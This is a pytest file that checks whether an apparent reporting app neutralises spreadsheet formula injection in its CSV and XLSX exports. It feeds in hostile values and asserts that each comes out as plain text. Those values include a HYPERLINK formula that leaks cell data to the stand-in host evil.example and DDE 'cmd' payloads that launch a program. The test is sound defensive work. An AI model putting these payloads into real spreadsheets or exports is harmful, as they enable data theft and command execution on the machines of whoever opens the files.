"""Report CSV and XLSX never carry live formulas: text from the agreement, the client and the
cases that starts like a formula is written as plain text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pactline.reports.services import render_files
from pactline.reports.tests.test_data import MONTHLY, build_dataset, content_of
from pactline.reports.tests.test_render import GENERATED

pytestmark = pytest.mark.django_db

AGREEMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
CLIENT = "+cmd|' /C calc'!A0"
CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"
TAG = "-2+3"
TAB = "\t=1+1"
CR = "\r=1+1"


def _hostile_files(tmp_path: Path) -> dict[str, bytes]:
    dataset = build_dataset(tmp_path)
    content = content_of(dataset.client, MONTHLY, date(2026, 3, 1))
    issues = content.sections.get("common_issues")
    assert issues is not None and len(issues.categories) >= 2 and issues.tags
    categories = [
        issues.categories[0].model_copy(update={"code": CATEGORY, "count": 1, "previous": 4}),
        *issues.categories[1:],
    ]
    tags = [
        issues.tags[0].model_copy(update={"code": TAG}),
        issues.tags[1].model_copy(update={"code": TAB}),
        *[row.model_copy(update={"code": CR}) for row in issues.tags[2:3]],
    ]
    hostile = content.model_copy(
        update={
            "client_name": CLIENT,
            "agreement": AGREEMENT,
            "sections": content.sections
            | {"common_issues": issues.model_copy(update={"categories": categories, "tags": tags})},
        }
    )
    return render_files(hostile, generated_at=GENERATED)


def test_formula_text_is_neutralised_in_csv_and_xlsx(tmp_path: Path) -> None:
    files = _hostile_files(tmp_path)

    rows = list(csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert ["Client", "'" + CLIENT] in rows
    assert any(cell.startswith("'" + AGREEMENT) for cell in cells)
    category = next(row for row in rows if row and row[0] == "'" + CATEGORY)
    assert category[1:4] == ["1", "4", "-3"]  # a negative number stays a number
    assert [cell for cell in cells if cell.endswith(TAG)] == ["'" + TAG]
    assert "'" + TAB in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and not _is_number(cell)]

    workbook = load_workbook(io.BytesIO(files["xlsx"]))
    values = [
        value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
    ]
    texts = [value for value in values if isinstance(value, str)]
    assert "'" + CLIENT in texts
    assert any(text.startswith("'" + AGREEMENT) for text in texts)
    assert "'" + CATEGORY in texts and "'" + TAG in texts and "'" + TAB in texts
    assert not [text for text in texts if text[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert -3 in values  # the change of the hostile category, a number
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)  # no formula cell at all


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
